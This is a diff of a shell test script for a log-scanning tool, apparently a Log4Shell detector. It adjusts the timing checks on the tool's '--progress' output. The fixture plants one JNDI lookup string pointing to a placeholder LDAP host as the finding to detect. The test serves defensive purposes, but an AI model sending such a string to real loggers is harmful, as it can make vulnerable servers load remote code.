@@ -58,12 +58,16 @@ fi
 mkdir -p many
 for i in $(seq 1 1500); do echo "plain line $i" > many/f$i.log; done
 printf '%s\n' '${jndi:ldap://progress.example/a}' > many/f750.log
+t0=$(date +%s)
 "$DEFUSE" logs --progress -j1 many > /dev/null 2> err.txt
+secs=$(( $(date +%s) - t0 + 2 ))   # a line a second, the first and the final one
 n=$(grep -o 'files,' err.txt | wc -l)
-[ "$n" -le 4 ] && ok "--progress on a pipe: $n lines (at most one a second)" \
-  || fail "--progress on a pipe drew $n lines"
+[ "$n" -le "$secs" ] && ok "--progress on a pipe: $n lines in under $secs s (at most one a second)" \
+  || fail "--progress on a pipe drew $n lines in under $secs s"
 if command -v script >/dev/null; then
-  timeout 20 script -qec "$DEFUSE logs --progress -j1 many" /dev/null < /dev/null > tty.txt 2>&1
+  t0=$(date +%s)
+  timeout 60 script -qec "$DEFUSE logs --progress -j1 many" /dev/null < /dev/null > tty.txt 2>&1
+  export SECS=$(( $(date +%s) - t0 + 1 ))
   python3 - <<'PY' && ok "--progress on a terminal: erased before a finding, throttled" \
     || fail "--progress on a terminal"
 t = open("tty.txt", encoding="latin-1").read()
@@ -72,7 +76,8 @@ assert line, t[-300:]
 import re
 shown = re.sub("\033\\[[0-9;]*m", "", line[0].replace("\r", "").split("\033[K")[-1])
 assert shown.startswith("many/f750.log:1: jndi"), repr(line[0][-200:])
-assert t.count("files,") <= 40, t.count("files,")
+import os
+assert t.count("files,") <= 10 * int(os.environ["SECS"]) + 2, (t.count("files,"), os.environ["SECS"])
 PY
 fi
 # --summary: commands that are not text (a kit's Base64 placeholder) are
